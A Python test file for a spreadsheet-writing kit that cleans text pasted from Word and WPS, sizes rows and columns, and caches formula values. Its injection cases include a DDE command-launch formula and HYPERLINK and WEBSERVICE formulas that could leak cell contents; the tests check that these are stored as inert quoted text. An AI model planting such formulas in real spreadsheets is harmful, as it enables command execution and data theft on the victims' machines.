"""The sheet-writing kit (xlsx/text.py, xlsx/sheet.py): the one text path into
cells, the one width rule, formulas with cached values.  Cases are the texts
clerks paste from Word and WPS, and the injection strings of issue 10."""
import zipfile

import openpyxl
import pytest

from xltools.xlsx.sheet import CF_ERROR, HEADER, MONEY, Book
from xltools.xlsx.text import cell_text, display_width, needs_quote_prefix, text_lines

CLEAN = [
    # (pasted text,                      what the cell holds)
    ("市民中心\x0b大厅运转",              "市民中心\n大厅运转"),      # Word manual line break
    ("窗口补贴\x07",                      "窗口补贴"),                # Word table cell mark
    ("第一页\x0c第二页",                  "第一页\n第二页"),          # page break
    ("一件事\r\n一次办",                  "一件事\n一次办"),
    ("a\x00b",                            "ab"),
    ("信创\ud800工程",                    "信创\ufffd工程"),          # lone surrogate
    ("保留 _x000B_ 原样",                 "保留 _x000B_ 原样"),       # literal escape text stays
    ("\t=2+2",                            "\t=2+2"),
]


@pytest.mark.parametrize("pasted, held", CLEAN)
def test_cell_text(pasted, held):
    assert cell_text(pasted) == held


FORMULA_LIKE = [
    ("=cmd|' /C calc'!A0", True), ('=HYPERLINK("http://x"&A1,"y")', True), ("+1", True),
    ("-1", True), ("@SUM(A1)", True), ("\t=2+2", True), ("　=1", True),
    ("项目名称", False), ("1=1", False), ("≥90%", False),
]


@pytest.mark.parametrize("text, formula_like", FORMULA_LIKE)
def test_quote_prefix(text, formula_like):
    assert needs_quote_prefix(text) is formula_like


@pytest.mark.parametrize("text, width", [("abc", 3), ("数据资源中心", 12), ("A级", 3), ("（万元）", 8)])
def test_display_width(text, width):
    assert display_width(text) == width


@pytest.mark.parametrize("value, width, lines", [
    (None, 10, 1), (95.5, 10, 1), ("", 10, 1), ("一二三四", 9, 1), ("一二三四五", 9, 2),
    ("甲\n乙\n丙", 20, 3), ("一二三四五六七八九十" * 2, 10, 5),
])
def test_text_lines(value, width, lines):
    assert text_lines(value, width) == lines


def test_clerk_text_is_never_a_formula_and_our_formulas_carry_values(tmp_path):
    path = tmp_path / "k.xlsx"
    hostile = ["=cmd|' /C calc'!A0", '=HYPERLINK("http://x"&A1,"y")', "=WEBSERVICE(A1)", "\t=2+2"]
    with Book(path) as book:
        sheet = book.sheet("项目1")
        for r, text in enumerate(hostile, start=1):
            sheet.value(r, 1, text)
        sheet.number(6, 1, 214.78, MONEY)
        sheet.number(6, 2, 239.8, MONEY)
        sheet.formula(6, 3, "A6/B6", 214.78 / 239.8, MONEY)
        sheet.merge(7, 1, 7, 3, "=1+1", HEADER)
        sheet.conditional("C6", "C6>1", CF_ERROR)
    with zipfile.ZipFile(path) as zf:
        xml = zf.read("xl/worksheets/sheet1.xml").decode()
    assert xml.count("<f>") == 1 and "<f>A6/B6</f><v>0.895" in xml
    ws = openpyxl.load_workbook(path)["项目1"]
    for r, text in enumerate(hostile, start=1):
        assert ws.cell(r, 1).data_type == "s" and ws.cell(r, 1).value == text
        assert ws.cell(r, 1).quotePrefix
    assert ws["A7"].value == "=1+1" and ws["A7"].data_type == "s"


def test_what_was_written_reads_back_as_grids(tmp_path):
    """A writer or planner can read what it wrote without reopening the file:
    values shown (formula cached values included), merges, formula cells,
    percent-formatted numbers — what `containers.workbook.load_book` gives."""
    from xltools.containers.workbook import load_book
    from xltools.xlsx.sheet import RATE

    path = tmp_path / "g.xlsx"
    with Book(path) as book:
        ws = book.sheet("项目1")
        ws.merge(1, 1, 1, 3, "2022年度项目支出绩效自评表", HEADER)
        ws.number(2, 1, 239.8, MONEY)
        ws.number(2, 2, 214.78, MONEY)
        ws.formula(2, 3, "B2/A2", 214.78 / 239.8, RATE)
        ws.text(3, 1, "=1+1")
        grids = book.grids()
    mine, read = grids.sheet("项目1"), load_book(path).sheet("项目1")
    for grid in (mine, read):
        assert grid.get(1, 1) == "2022年度项目支出绩效自评表" and grid.get(3, 1) == "=1+1"
        assert grid.get(2, 3) == pytest.approx(214.78 / 239.8)
        assert grid.merged == [(1, 1, 1, 3)] and grid.formulas == {(2, 3)}
        assert (2, 3) in grid.percent_cells
    assert mine.rows == read.rows


# texts written in a row (value, first col, last col of its merge)        widths    planned height ≥
FIT = [
    ([("一件事一次办改革经费", 1, 1)],                                        (12,),    2 * 13.5),
    ([("一件事一次办改革经费", 1, 2)],                                        (12, 12), 18.0),
    ([("甲\n乙\n丙", 1, 1), ("短", 2, 2)],                                      (10, 10), 3 * 13.5),
    ([(95.5, 1, 1)],                                                          (4,),     18.0),
]


@pytest.mark.parametrize("texts,widths,least", FIT)
def test_row_heights_planned_from_text(tmp_path, texts, widths, least):
    with Book(tmp_path / "h.xlsx") as book:
        ws = book.sheet("s")
        ws.set_widths(widths)
        for value, c1, c2 in texts:
            ws.merge(1, c1, 1, c2, value)
        ws.fit_rows(1, 1)
        assert ws.heights[1] >= least
        assert ws.heights[1] < least + 13.5  # no more than it needs


def test_buttons_need_and_carry_the_vba_project(tmp_path):
    from xltools.master.doctor import button_macros
    from xltools.master.vba import build_vba_project
    from xltools.xlsx.package import Package

    with pytest.raises(ValueError):
        with Book(tmp_path / "plain.xlsx") as book:
            book.sheet("说明").button(3, 4, "一键重算", "Recalculate")
    path = tmp_path / "m.xlsm"
    with Book(path, vba=build_vba_project()) as book:
        book.sheet("说明").button(3, 4, "一键重算", "Recalculate")
        book.sheet("项目1")
    assert button_macros(path) == [("说明", "一键重算", "[0]!Recalculate")]
    pkg = Package.load(path)
    assert 'codeName="ThisWorkbook"' in pkg.text("xl/workbook.xml")
    assert ['codeName="Sheet1"' in pkg.text(part) for _n, part, _r in pkg.sheets()] == [True, False]
    assert 'codeName="Sheet2"' in pkg.text(pkg.sheet_part("项目1"))


ROW_CASES = [
    # (value written,                     value read back,             data type)
    ("快递服务经费",                      "快递服务经费",              "s"),
    ("=1+1",                              "=1+1",                      "s"),   # clerk text, quotePrefix
    ("市民中心\x0b大厅",                  "市民中心\n大厅",            "s"),
    ("保留 _x000B_ 原样",                 "保留 _x000B_ 原样",         "s"),
    ("a<b & c>d",                         "a<b & c>d",                 "s"),
    ("　前后空格 ",                       "　前后空格 ",               "s"),
    (239.8,                               239.8,                       "n"),
    (float("nan"),                        None,                        "n"),
    (None,                                None,                        "n"),
    (True,                                True,                        "b"),
]


def test_row_writer_writes_what_sheet_value_writes(tmp_path):
    from xltools.master.plans import Formula
    from xltools.xlsx.sheet import LEFT

    path = tmp_path / "rows.xlsx"
    with Book(path, constant_memory=True) as book:
        sheet = book.sheet("问题清单")
        sheet.set_widths([12, 12, 12])
        sheet.text(1, 1, "标题", HEADER)                  # ordinary writes above …
        rows = sheet.rows([LEFT, MONEY, MONEY])
        for r, (value, _, _) in enumerate(ROW_CASES, start=3):
            rows.write(r, [value, 1.5, Formula("=B%d*2" % r, 3.0)])
        rows.write(20, ["一二三四五六七八九十" * 3, None, Formula('=IF(B20="","",1)', "")])
        sheet.text(22, 1, "表尾")                           # … and below
    from python_calamine import CalamineWorkbook

    ws = openpyxl.load_workbook(path)["问题清单"]
    cached = openpyxl.load_workbook(path, data_only=True)["问题清单"]
    # calamine reads Excel's escapes as Excel does (openpyxl leaves _x005F_ in)
    shown = CalamineWorkbook.from_path(str(path)).get_sheet_by_name("问题清单").to_python()
    assert ws["A1"].value == "标题" and ws["A22"].value == "表尾"
    for r, (_, back, kind) in enumerate(ROW_CASES, start=3):
        cell = ws.cell(r, 1)
        assert shown[r - 1][0] == ("" if back is None else back), r
        assert cell.data_type == kind, r
        assert cell.quotePrefix is (back == "=1+1")
        assert ws.cell(r, 3).value == f"=B{r}*2" and cached.cell(r, 3).value == 3.0
    assert ws.row_dimensions[20].height == pytest.approx(6 * 13.5 + 6, abs=0.75)  # 60 columns in 11: 6 lines
    assert cached["C20"].value == "" or cached["C20"].value is None
    with pytest.raises(ValueError):
        with Book(tmp_path / "bad.xlsx", constant_memory=True) as book:
            rows = book.sheet("x").rows([LEFT])
            rows.write(5, ["a"])
            rows.write(4, ["b"])


def _sheet_xml(path, part="xl/worksheets/sheet1.xml") -> str:
    with zipfile.ZipFile(path) as z:
        return z.read(part).decode("utf-8")


def _row_writer_book(path, rows_of_values, **looks_override):
    """A constant-memory book whose sheet gets `rows_of_values` through a RowWriter."""
    from xltools.master.plans import Formula
    from xltools.xlsx.sheet import CELL, LEFT

    with Book(path, constant_memory=True, compression=1) as book:
        sheet = book.sheet("表")
        sheet.set_widths([10, 6, 8])
        sheet.text(1, 1, "标题", HEADER)
        rows = sheet.rows([LEFT, MONEY, CELL])
        total = rows.looks([HEADER, HEADER, HEADER])
        r = 3
        for values in rows_of_values:
            values = [Formula(v[1:], 2.5) if isinstance(v, str) and v.startswith("ƒ") else v
                      for v in values]
            rows.write(r, values, total if values and values[0] == "合计" else None)
            r += 1
        rows.write(r, [], height=20)
        rows.write(r + 1, ["只有一格"])
        sheet.text(r + 3, 1, "表尾")


def test_row_writer_xml_is_what_xlsxwriter_writes(tmp_path):
    """The cells a RowWriter writes, byte for byte: inline strings after the
    reference, numbers as their repr, formulas with cached values, blank
    styled cells, the fitted height rounded as set_row rounds it."""
    path = tmp_path / "x.xlsx"
    _row_writer_book(path, [["甲", 1.5, True], ["一二三四五六七八九十", None, "ƒ=B4*2"],
                            ["合计", float("inf"), 7]])
    xml = _sheet_xml(path)
    body = xml[xml.index('<row r="3"'):xml.index('<row r="9"')]
    s = {}  # style ids as XlsxWriter gave them
    for name, cell in (("left", "A3"), ("money", "B3"), ("cell", "C3"), ("head", "A5")):
        s[name] = xml.split(f'<c r="{cell}" s="')[1].split('"')[0]
    assert body == (
        f'<row r="3" ht="18" customHeight="1"><c r="A3" s="{s["left"]}" t="inlineStr"><is><t>甲</t>'
        f'</is></c><c r="B3" s="{s["money"]}"><v>1.5</v></c><c r="C3" s="{s["cell"]}" t="b"><v>1</v>'
        f'</c></row>'
        f'<row r="4" ht="46.5" customHeight="1"><c r="A4" s="{s["left"]}" t="inlineStr"><is><t>'
        f'一二三四五六七八九十</t></is></c><c r="B4" s="{s["money"]}"/><c r="C4" s="{s["cell"]}">'
        f'<f>B4*2</f><v>2.5</v></c></row>'
        f'<row r="5" ht="18" customHeight="1"><c r="A5" s="{s["head"]}" t="inlineStr"><is><t>合计</t>'
        f'</is></c><c r="B5" s="{s["head"]}"/><c r="C5" s="{s["head"]}"><v>7</v></c></row>'
        f'<row r="6" ht="20.25" customHeight="1"></row>'
        f'<row r="7" ht="18" customHeight="1"><c r="A7" s="{s["left"]}" t="inlineStr"><is><t>只有一格'
        f'</t></is></c></row>')
    assert '<dimension ref="A1:C9"/>' in xml


def test_row_writer_cache_changes_nothing(tmp_path, monkeypatch):
    """Texts met again are rendered from the writer's cache; with no cache, or
    one so small it starts over every few texts, the bytes are the same."""
    import xltools.xlsx.sheet as kit

    rows = [[f"单位{i % 7}", i * 1.25, f"=说明{i % 3}"] for i in range(60)]
    rows += [["　前后空格 ", 0.1, "a<b & _x0041_"], ["合计", 3.0, "ƒ=SUM(B3:B62)"]] * 3
    _row_writer_book(tmp_path / "cached.xlsx", rows)
    monkeypatch.setattr(kit, "_CACHE_TEXT", -1)
    _row_writer_book(tmp_path / "none.xlsx", rows)
    monkeypatch.setattr(kit, "_CACHE_TEXT", 256)
    monkeypatch.setattr(kit, "_CACHE_BYTES", 1000)
    _row_writer_book(tmp_path / "tiny.xlsx", rows)
    expected = _sheet_xml(tmp_path / "cached.xlsx")
    assert _sheet_xml(tmp_path / "none.xlsx") == expected
    assert _sheet_xml(tmp_path / "tiny.xlsx") == expected
